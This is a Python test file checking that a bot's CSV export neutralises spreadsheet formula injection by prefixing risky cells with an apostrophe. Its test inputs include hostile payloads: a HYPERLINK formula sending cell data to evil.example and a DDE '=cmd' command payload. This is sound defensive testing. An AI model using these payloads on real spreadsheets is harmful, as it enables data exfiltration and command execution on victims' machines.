"""The file of those who are interested: nothing in it runs in a spreadsheet program, and nothing is lost."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.openings.interests import as_csv, defused

ACTIVE = "=+-@＝＋－＠\t\r\n"
DROPPED = " \"'‘’“”`\u200b\u200e\ufeff\u00a0"

CELLS = st.one_of(
    st.text(max_size=30),
    st.builds(
        "{}{}{}".format, st.text(DROPPED, max_size=3), st.sampled_from([*ACTIVE]), st.text(max_size=20)
    ),
)  # fmt: skip


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+919876543210", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '"=1', "'=1", ' "=1+1"', "＝1+1", "　＝1",
        '=HYPERLINK("http://evil.example?"&A1,"see")', "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1", "“=1",
    ],
)  # fmt: skip
def test_what_might_run_stands_behind_an_apostrophe(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Asha", "അമ്മു", "a=b", "9876543210", "", "2+2", "O'Brien", "(=1)"])
def test_what_is_plain_stays_as_it_is(cell: str) -> None:
    assert defused(cell) == cell


@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=6))
@example([['=1\n+2,"3'], ["\0=1"], ["\ud800"]])
def test_whatever_people_write_no_cell_begins_a_formula_and_all_can_be_read_back(rows: list[list[str]]) -> None:
    content = as_csv(rows)
    assert content.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [len(row) for row in read] == [len(row) for row in rows]
    for written, row in zip(rows, read, strict=True):
        for before, cell in zip(written, row, strict=True):
            plain = before.replace("\0", "").encode(errors="replace").decode()
            assert cell in (plain, f"'{plain}")
            if cell.strip(DROPPED + "\u3000")[:1] in (*ACTIVE,):
                assert cell.startswith("'")
            assert not cell.startswith(tuple(ACTIVE))
